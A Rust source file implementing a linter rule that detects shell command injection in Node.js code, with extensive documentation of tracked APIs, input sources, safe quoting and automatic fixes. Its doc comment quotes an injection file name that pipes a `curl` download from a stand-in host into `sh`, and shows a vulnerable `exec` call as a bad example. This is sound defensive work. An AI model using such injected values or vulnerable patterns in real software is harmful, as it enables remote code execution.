use swc_common::{Span, Spanned};
use swc_ecma_ast::Expr;

use crate::declare_rule;
use crate::emit::{Label, RawFinding};
use crate::rule::{Context, Emitter, Rule, describe_origin};
use crate::rules::rewrite::{Kind, rewrite};
use crate::semantic::facts::{Argv, ExplicitShell, ShellFamily, ShellOpt};
use crate::semantic::{Api, CallSite, Hole, Origin, Semantic, Shape, range};

declare_rule! {
    /// ## What it flags
    ///
    /// A command that reaches a shell and is not a constant:
    ///
    /// - `exec`, `execSync` and promisified `exec` whose command is built from a
    ///   value cplint cannot prove constant;
    /// - `spawn`, `spawnSync`, `execFile`, `execFileSync` (and `cross-spawn`,
    ///   `execa`) with a truthy `shell` option, when the command or any argument is
    ///   not constant — Node joins them into one shell command line;
    /// - a shell named as the program: `spawn("sh", ["-c", script])`,
    ///   `execFile("bash", ["-lc", script])`, `cmd.exe /c`, `powershell -Command`
    ///   (or `-EncodedCommand`), when the script is not constant;
    /// - an interpreter with an eval flag, which makes its next argument a program
    ///   exactly like `sh -c`: `node -e`/`-p` (`process.execPath` included),
    ///   `python -c`, `perl -e`/`-E`, `ruby -e`, `php -r`, `osascript -e`, when that
    ///   code is not constant (flags after a script file belong to the script and are
    ///   not read);
    /// - the shell-string functions of wrapper libraries: `shelljs`'s `exec` (also
    ///   the global of `shelljs/global`), `execa`'s `shell`, and `execaCommand` and
    ///   the `$` tag with `shell`, `mz/child_process`, `child-process-promise`, `platform-command`,
    ///   `shell-exec`, `exec-sh`, `node-cmd`, `exec-limiter`, the npm package `exec`
    ///   given a string (an array runs no shell), and the remote shells of
    ///   `ssh2`'s `Client#exec`, `ssh2-streams`' `SSH2Stream#exec` and `remote-exec`; `Bun.$` with `${{ raw: value }}`;
    ///   the `spawn`-like APIs of `cross-spawn(-async)`, execa, `node-pty`,
    ///   `foreground-child`, `@actions/exec`, `Bun.spawn`, `Deno.Command` and
    ///   `process.execve` as above (the table is in `src/models.rs`).
    ///
    /// The message names where the dynamic part comes from when cplint can tell: a
    /// parameter of an exported function; the HTTP request, as the request
    /// parameter of a handler registered on an app that resolves to express
    /// (`express()`, `express.Router()`, `connect()`, `polka()`), koa (`new Koa()`,
    /// `koa-router`, `@koa/router`), fastify (routes, `.route({ handler })`,
    /// plugins), hapi (`server.route({ handler })`), `http(s).createServer` and
    /// `server.on("request", ..)`, Next.js API routes (`pages/api/**`, the
    /// `GET`/`POST`/... exports of `app/**/route.js`) or typed as a framework's
    /// request (`req: Request` from `express`), followed through `new URL(req.url,
    /// ..).searchParams`, `url.parse(req.url, true).query`, `req.get(..)`,
    /// `await request.json()`, optional chaining (`req.query?.ref`), multipart form
    /// parsers (formidable, multiparty, busboy) and callbacks iterating request data
    /// (`req.files.forEach((f) => ..)`); `process.argv` and the parsers yargs, yargs-parser,
    /// minimist, commander (`opts()`, `args`, `.action` parameters), meow, optimist,
    /// subarg, args, get-them-args and argparse (named in the message);
    /// `process.env` and `shelljs`' `env`; GitHub Actions inputs
    /// (`@actions/core`'s `getInput`; `getBooleanInput` is a boolean) and the event
    /// payload (`@actions/github`'s `context.payload`); stdin (`fs.readFileSync(0)`,
    /// `process.stdin`, a `readline` interface over it). Handlers are found through
    /// the bindings, whatever their parameters are called; for handlers registered
    /// in another file, an exported function or class method shaped `(req, res, ..)`,
    /// `(err, req, res, next)` or `(ctx, next)`, and a function given to
    /// `x.get("/path", ..)` whose first parameter is `req`, `request` or `ctx`, count
    /// as handlers too.
    ///
    /// **Across files.** An exported function whose parameter reaches a shell
    /// (`exports.sh = (cmd) => execSync(cmd)`, `function run(opts, cmd)`) is
    /// reported in its file and is a shell-string function for every file of the
    /// run that imports it (`require`, `import`, relative paths with or without
    /// extension or `/index`; ES modules and CommonJS), checked at that argument:
    /// `sh("cat " + req.query.file)` in a route is reported there, naming the
    /// helper and the line of its shell call, and a function that passes its own
    /// parameter on to such a helper is a sink for its importers in turn (up to 4
    /// files deep). Only files linted in the same run are known as sinks.
    ///
    /// Constants exported by another file of the project fold in their importers:
    /// `` exports.INSTALL = `${PM} ci` ``, `module.exports = { BUILD }`, `export const`,
    /// `export { X as Y }`, `export default "..."`, re-exports (`export { X } from`,
    /// `export * from`, a spread `require`), through `import { X }`, `import * as k`
    /// (`k.X`), `require` with destructuring or a member (`c.X`). An imported
    /// module is read for its constants whether or not it is linted in the run. An
    /// export written twice or inside a function, a `let` reassigned anywhere, an
    /// object's property and a value of an unknown origin are not constants.
    /// So is a call of an exported function that declares no parameter and returns,
    /// on every path, text without shell syntax (constants, numbers, a value whose
    /// metacharacters a global `.replace` removed): `util.getBinPath()` where
    /// `getBinPath` picks a platform's program. A helper with a parameter, one that
    /// returns an environment value as it is, a reassigned binding and an object's
    /// method are not followed.
    /// `--no-cross-file` lints each file on its own.
    ///
    /// Not flagged: commands that fold to constants (string literals, `const`
    /// bindings, concatenations and templates of those, `path.join` of constants,
    /// `__dirname`, `os.tmpdir()`, a choice between constants), numbers and
    /// booleans, and dynamic parts wrapped in a recognised quoting function:
    /// `quote` from `shell-quote`, the default export of `shell-escape`,
    /// `any-shell-escape`, `shell-escape-tag` and `shell-args`, `quote`/`quoteAll`/
    /// `escape`/`escapeAll` from `shescape`, and same-file helpers named
    /// `shellEscape`, `shellQuote`, `escapeShellArg`, `escapeShell`,
    /// `shellEscapeArg`, `quoteShellArg`, `quoteShell`, `shellArg` or `quoteArg`
    /// (any case, `_`/`-` ignored), and same-file functions whose global `.replace`
    /// keeps the value inside its quotes (`'` by `'\''`; `"`, `$`, backticks and
    /// backslashes escaped; every character outside a plain set removed or escaped).
    /// Nor values rejected on the same path unless they are plain tokens: after
    /// `if (!/^[\w.-]+$/.test(x)) throw ..` (an anchored regex without the `m` flag),
    /// `if (!ALLOWED.includes(x)) return`, `Number.isInteger`, `typeof x !== "number"`,
    /// `net.isIP`, `validator.isInt` and the other `validator` checks whose matches are
    /// plain, `ip.isV4Format`, a same-file predicate that returns one of these, or a
    /// deny-list regex that finds every one of `; & | $ \` < >` and newline. A test
    /// whose result is not used, a check after the call or on another branch, or a
    /// value reassigned after its check guards nothing.
    ///
    /// The shell may be chosen at run time: `win ? "cmd.exe" : "/bin/sh"`,
    /// `process.env.SHELL || "sh"` (`SHELL` and `ComSpec` name a shell), a variable
    /// set in each branch of an `if` or `switch`, a constant object's field or a
    /// same-file function's return value, with a flag chosen the same way
    /// (`win ? "/c" : "-c"`). A same-file function that builds the command is folded
    /// with the arguments of each call.
    ///
    /// ## Why it matters
    ///
    /// A shell reads its command line as a program: `;`, `|`, `$( )`, backticks,
    /// redirects and globs in an interpolated value run as commands of their own.
    /// A file name such as `a.mp4; curl evil.sh | sh` turns a transcode into remote
    /// code execution (CWE-78).
    ///
    /// ## Example
    ///
    /// ```js
    /// const { exec } = require("node:child_process");
    ///
    /// function thumbnail(file, done) {
    ///   exec(`convert ${file} -resize 64x64 thumb.png`, done);
    /// }
    /// module.exports = { thumbnail };
    /// ```
    ///
    /// ## Use instead
    ///
    /// ```js
    /// const { execFile } = require("node:child_process");
    ///
    /// function thumbnail(file, done) {
    ///   execFile("convert", [file, "-resize", "64x64", "thumb.png"], done);
    /// }
    /// module.exports = { thumbnail };
    /// ```
    ///
    /// `execFile` and `spawn` without `shell` pass each argument to the program
    /// unchanged. When shell features are truly needed, quote every dynamic part
    /// with `quote` from `shell-quote`, or pass values as positional parameters:
    /// `spawn("sh", ["-c", 'tar czf "$1" .', "sh", archive])`.
    ///
    /// ## Fix
    ///
    /// When the command is written in the call (a string, a template or a `+`
    /// concatenation) and splits into words without shell syntax, cplint offers the
    /// argument-array call: `exec` → `execFile`, `execSync` → `execFileSync`,
    /// promisified `exec` → promisified `execFile` (declared beside it when needed),
    /// `shell: true` removed from an options object written in the call, and
    /// `spawn("sh", ["-c", script])` → the script's program run directly. The
    /// `require`/`import` is updated (`execFile` added; `exec` replaced when nothing
    /// else uses it). The fix is *unsafe* (`--fix --unsafe-fixes`): an interpolated
    /// value used to be split, globbed and interpreted by the shell and now arrives
    /// as one literal argument — which is the point, but it is a change; plain
    /// values give the same argv as before. Constants are read as the shell read
    /// them (`const MODE = "-l -a"` is two arguments). A leading `cd DIR &&`
    /// of a shell-string call (`exec("cd " + dir + " && git pull", cb)`) becomes
    /// the `cwd` option (`execFile("git", ["pull"], { cwd: dir }, cb)`), when `cd`
    /// has one operand that is not an option, no other `&&` follows and the options
    /// do not set `cwd` already; a directory that does not exist now fails with
    /// `ENOENT` instead of the shell's `cd` error (exit status 2, the command
    /// skipped), a value starting with `-` is a directory name rather than a `cd`
    /// option, `CDPATH` is not searched, and the child inherits this process's `PWD`
    /// variable. Commands with pipes,
    /// redirects, globs, `$VAR`, `&&`, `~`, builtins (`cd`, `echo`, `printf`, `test`,
    /// ...), `NAME=value` prefixes, values that may be empty or hold several words
    /// (`cond ? "--stat" : ""`), a `shell` other than `sh`/`bash` (`cmd.exe`,
    /// PowerShell), or options that may set `shell` (a parameter, an unknown
    /// spread) get advice instead of an edit. On Windows, programs that
    /// are `.cmd` scripts (`npm`, `npx`, `yarn`) cannot be run without a shell;
    /// check such calls before applying the fix there.
    ///
    /// ## Known limits
    ///
    /// - Values are followed within one file. A parameter of a function that is
    ///   neither exported nor passed around is folded from its callers in the file;
    ///   anything else that is not constant is reported unless a guard above rejects
    ///   shell syntax on the same path: a check in a caller in another file, a
    ///   fallback that replaces a bad value (`if (!ok(x)) x = other`), or output of
    ///   another command is not proven safe. Suppress such a line with a reason.
    /// - Across files, only exported functions are followed, each at one parameter
    ///   (the first that reaches a shell): in `inDir(dir, cmd)` where both do, only
    ///   `dir` is checked at the importers. Exported constants are strings and
    ///   numbers: a property of an exported object (`OPTS.cmd`), a value a package's
    ///   `main` field names, `import()` and an export another file changes
    ///   (`consts.X = ..` in an importer) are not followed.
    /// - Inline `.replace(...)` escaping is recognised only when it leaves no shell
    ///   syntax whatever the quotes (`x.replace(/[^\w.-]/g, "")`); quote-escaping
    ///   replaces count inside a same-file quoting function.
    /// - A `spawn` whose options are unknown (a parameter, a spread of an unknown
    ///   object) is only reported when it names a shell as the program.
    pub struct ShellInjection;
    code: "CP001",
    name: "shell-injection",
    severity: Error,
    category: Security,
    cwe: [78],
    summary: "A non-constant command reaches a shell",
    precision: "high",
    security_severity: "9.8",
}

impl Rule for ShellInjection {
    fn check_call<'a>(&self, Context { sem, config }: &Context<'_, 'a>, site: &CallSite<'a>, out: &mut Emitter) {
        let Some(cmd) = site.command else { return };
        let fixes = config.fixes;
        let finding = match (site.api, &site.facts.shell, site.facts.shell_option) {
            (a, _, _) if a.is_shell_string() => check_shell_string(sem, site, cmd, None, fixes),
            (Api::ExecaCommand, _, ShellOpt::On(span)) => check_shell_string(sem, site, cmd, Some(span), fixes),
            (a, _, ShellOpt::On(span)) if a.is_file_args() => check_shell_option(sem, site, cmd, span, fixes),
            (a, crate::semantic::facts::Shell::Program(shell), _) if a.is_file_args() => {
                check_explicit_shell(sem, site, shell, fixes)
            }
            _ => None,
        };
        if let Some(f) = finding {
            out.emit(f);
        }
    }
}

/// Orders origins from most to least telling, for the message.
fn origin_rank(o: &Origin) -> u8 {
    match o {
        Origin::Request(_) | Origin::ActionsPayload(_) => 0,
        Origin::Argv(_) | Origin::ParsedArg { .. } | Origin::Stdin(_) => 1,
        Origin::Env(_) | Origin::ActionsInput(_) => 2,
        Origin::Param { exported: true, .. } => 3,
        Origin::Param { .. } => 4,
        Origin::Unknown(_) => 5,
    }
}

fn short_origin(o: &Origin) -> String {
    match o {
        Origin::Param { func: Some(f), exported: true, .. } => format!("parameter of exported `{f}`"),
        Origin::Param { func: Some(f), .. } => format!("parameter of `{f}`"),
        Origin::Param { .. } => "function parameter".into(),
        Origin::Request(_) => "HTTP request input".into(),
        Origin::Argv(_) => "command-line argument".into(),
        Origin::ParsedArg { parser, .. } => format!("command-line argument (`{parser}`)"),
        Origin::Env(_) => "environment variable".into(),
        Origin::ActionsInput(_) => "GitHub Actions input".into(),
        Origin::ActionsPayload(_) => "GitHub event payload".into(),
        Origin::Stdin(_) => "read from stdin".into(),
        Origin::Unknown(_) => "not a constant".into(),
    }
}

fn to_label(h: &Hole) -> Label {
    let (start, end) = range(h.span);
    Label { start, end, text: short_origin(&h.origin) }
}

fn callee_label(site: &CallSite<'_>, text: &str) -> Label {
    let (start, end) = range(site.callee_span);
    Label { start, end, text: text.to_string() }
}

fn finding(site: &CallSite<'_>, primary: Label, holes: Vec<Hole>, message: String, help: &str) -> RawFinding {
    let (start, end) = range(site.span);
    let mut labels: Vec<Label> = Vec::new();
    for h in holes.iter().take(4) {
        let l = to_label(h);
        if !labels.iter().any(|x| x.start == l.start && x.end == l.end)
            && (l.start, l.end) != (primary.start, primary.end)
        {
            labels.push(l);
        }
    }
    RawFinding {
        start,
        end,
        primary,
        message,
        help: Some(help.to_string()),
        note: Some("shell syntax in the value (`;`, `|`, `$( )`, backticks) runs as commands of its own".into()),
        labels,
        fix: None,
    }
}

fn unsafe_holes(shapes: &[Shape]) -> Vec<Hole> {
    let mut holes: Vec<Hole> = shapes.iter().flat_map(|s| s.unsafe_holes().cloned()).collect();
    holes.sort_by_key(|h| origin_rank(&h.origin));
    holes
}

fn check_shell_string<'a>(
    sem: &Semantic<'a>,
    site: &CallSite<'a>,
    cmd: &'a Expr,
    shell: Option<Span>,
    fixes: bool,
) -> Option<RawFinding> {
    let holes = unsafe_holes(&[sem.shape(cmd)]);
    let first = holes.first()?;
    let name = site.display_name();
    let message = match shell {
        Some(_) => format!("{name} with `shell` runs a shell command built from {}", describe_origin(&first.origin)),
        None => format!("{name} runs a shell command built from {}", describe_origin(&first.origin)),
    };
    let help = if site.wrapper.is_some_and(crate::models::runs_remotely) {
        // ssh runs the string in the remote user's shell: there is no argument array.
        "quote each dynamic part with `quote` from `shell-quote` (the remote host's shell reads the whole string), or check it against an allow-list first"
    } else {
        "pass the program and its arguments separately, e.g. `execFile(file, [arg1, arg2], callback)`, which runs no shell; if shell features are needed, quote each dynamic part with `quote` from `shell-quote`"
    };
    let mut f = finding(site, callee_label(site, "runs through a shell"), holes, message, help);
    let kind = if shell.is_some() { Kind::ShellOption } else { Kind::ShellString };
    if fixes {
        f.fix = rewrite(sem, site, kind);
    }
    Some(f)
}

/// The shapes of every argv element (a spread or unknown array is one hole).
fn argv_shapes<'a>(sem: &Semantic<'a>, argv: &Argv<'a>) -> Vec<Shape> {
    match argv {
        Argv::Absent => Vec::new(),
        Argv::Elements(elems) => elems.iter().map(|e| sem.shape(&e.expr)).collect(),
        Argv::Opaque(args) => vec![sem.shape(args)],
    }
}

fn check_shell_option<'a>(
    sem: &Semantic<'a>,
    site: &CallSite<'a>,
    cmd: &'a Expr,
    shell: Span,
    fixes: bool,
) -> Option<RawFinding> {
    // The shell reads the program and the arguments as one command line, so the
    // program's text is checked too (DEP0190) — except a program that is one dynamic
    // value next to an argv: whoever picks the program runs anything, shell or not,
    // and a program from the HTTP request is `untrusted-program`'s.
    let mut shapes = Vec::new();
    let command = sem.shape(cmd);
    let program_only = command.parts.len() == 1 && matches!(command.parts[0], crate::semantic::Part::Hole(_));
    if site.args.is_none() || !program_only {
        shapes.push(command);
    }
    shapes.extend(argv_shapes(sem, &site.facts.argv));
    let holes = unsafe_holes(&shapes);
    let first = holes.first()?;
    let name = site.display_name();
    let message = format!(
        "{name} with `shell` enabled joins its command and arguments into a shell command built from {}",
        describe_origin(&first.origin)
    );
    let (s, e) = range(shell);
    let help = "remove the `shell` option so each argument reaches the program unchanged";
    let mut f = finding(site, callee_label(site, "runs through a shell"), holes, message, help);
    // Options held elsewhere (`const OPTS = { shell: true }`) would split the frame;
    // the label is only shown when the option is written in the call.
    let (cs, ce) = range(site.span);
    if s >= cs && e <= ce {
        f.labels.insert(0, Label { start: s, end: e, text: "enables the shell".into() });
    }
    if fixes {
        f.fix = rewrite(sem, site, Kind::ShellOption);
    }
    Some(f)
}

fn check_explicit_shell<'a>(
    sem: &Semantic<'a>,
    site: &CallSite<'a>,
    shell: &ExplicitShell<'a>,
    fixes: bool,
) -> Option<RawFinding> {
    let ExplicitShell { family, program, flag, flag_at: at, script, argc, chosen } = shell;
    let (family, at) = (*family, *at);
    let mut shapes = Vec::new();
    for el in script {
        shapes.push(sem.shape(&el.expr));
    }
    let holes = unsafe_holes(&shapes);
    let first = holes.first()?;
    let prog_name = program.rsplit(['/', '\\']).next().unwrap_or(program).to_string();
    let message = format!(
        "{} runs `{prog_name} {flag}` with a script built from {}",
        site.display_name(),
        describe_origin(&first.origin)
    );
    let help = match family {
        ShellFamily::Posix => {
            "run the program directly with an argument array; if a shell is unavoidable, keep the script constant and pass values as positional parameters: `[\"-c\", 'cmd \"$1\"', \"sh\", value]`"
        }
        ShellFamily::Interpreter => {
            "keep the code constant and pass values as arguments after it (`process.argv`, `sys.argv`, `@ARGV`, `ARGV`, `$argv`), or on stdin"
        }
        _ => "run the program directly with an argument array instead of through a shell",
    };
    let (s, e) = range(script.first().map_or(site.callee_span, |el| el.expr.span()));
    let mut f = finding(site, callee_label(site, "starts a shell"), holes, message, help);
    if !f.labels.iter().any(|l| l.start >= s && l.end <= e) {
        f.labels.insert(0, Label { start: s, end: e, text: "shell script".into() });
    }
    // Options cplint cannot read may hold `shell: true`, under which the rewritten
    // call would run differently: no edit then.
    let options_known = site.facts.shell_option != ShellOpt::Unknown;
    if fixes && options_known && family == ShellFamily::Posix && flag == "-c" && *argc == at + 2 && !chosen {
        f.fix = crate::rules::rewrite::rewrite_explicit_shell(sem, site, shell);
    }
    Some(f)
}
